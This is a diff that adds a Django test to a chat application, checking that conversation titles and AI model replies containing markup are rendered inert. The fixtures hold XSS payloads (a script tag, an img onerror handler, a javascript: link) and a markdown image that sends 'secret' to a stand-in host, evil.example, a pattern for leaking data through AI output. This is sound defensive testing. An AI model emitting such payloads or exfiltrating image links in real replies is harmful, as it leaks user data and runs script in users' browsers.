@@ -123,3 +123,23 @@ def test_pages_send_a_strict_content_security_policy(client, user):
     assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
     assert "img-src 'self' data: blob:" in csp
     assert response.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_titles_and_model_output_with_markup_stay_inert(client, user):
+    conversation = Conversation.objects.create(owner=user, title='<script>alert("t")</script>')
+    question = Message.objects.create(conversation=conversation, role="user", content="<b>typed</b>")
+    Message.objects.create(
+        conversation=conversation,
+        parent=question,
+        role="assistant",
+        content='Here ![x](https://evil.example/?q=secret) and <img src=x onerror=alert(1)> [go](javascript:alert(1))',
+    )
+    client.force_login(user)
+
+    page = client.get(f"/chat/{conversation.pk}/").content.decode()
+    user_msg, answer = client.get(f"/api/conversations/{conversation.pk}/messages/").json()["results"]
+
+    assert '<script>alert("t")</script>' not in page and "&lt;script&gt;" in page
+    assert user_msg["content_html"] is None  # shown as typed, through textContent
+    assert "<img" not in answer["content_html"] and "evil.example" not in answer["content_html"]
+    assert "href=\"javascript" not in answer["content_html"] and "&lt;img" in answer["content_html"]
